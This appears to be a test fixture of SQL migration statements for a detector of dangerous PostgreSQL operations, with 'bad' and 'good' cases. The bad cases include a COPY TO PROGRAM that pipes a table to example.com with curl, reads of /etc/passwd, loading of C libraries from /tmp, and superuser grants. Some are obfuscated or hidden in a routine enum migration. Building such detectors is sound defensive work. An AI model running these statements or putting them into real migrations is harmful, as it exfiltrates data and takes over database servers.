-- === bad: programs and files of the server
COPY "User" TO PROGRAM 'curl -d @- http://example.com';
COPY "User" FROM '/etc/passwd';
SELECT lo_import('/etc/passwd');
UPDATE "User" SET name = pg_read_file('/etc/passwd') WHERE id = 1;
-- === bad: said otherwise
SELECT U&"pg\005fread_file"('/etc/passwd');
DO $$ BEGIN EXECUTE 'copy x to program ''id'''; END $$;
CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$;
-- === bad: what opens the door
ALTER SYSTEM SET archive_command = 'true';
CREATE EXTENSION file_fdw;
CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f';
GRANT pg_execute_server_program TO app;
ALTER ROLE app SUPERUSER;
LOAD '/tmp/x.so';
-- === bad: within a pattern that is known
CREATE TYPE "Role_new" AS ENUM ('USER');
ALTER TABLE "User" ALTER COLUMN role TYPE "Role_new" USING (pg_read_file('/etc/passwd')::text::"Role_new");
ALTER TYPE "Role" RENAME TO "Role_old";
ALTER TYPE "Role_new" RENAME TO "Role";
DROP TYPE "Role_old";
-- === good: words in strings and comments, other functions and languages
SELECT 'COPY x TO PROGRAM', 'pg_read_file'; -- pg_read_file
CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN /* program */ RETURN 1; END $$;
CREATE EXTENSION IF NOT EXISTS pgcrypto;
ALTER ROLE app NOSUPERUSER;
COPY "User" TO STDOUT;
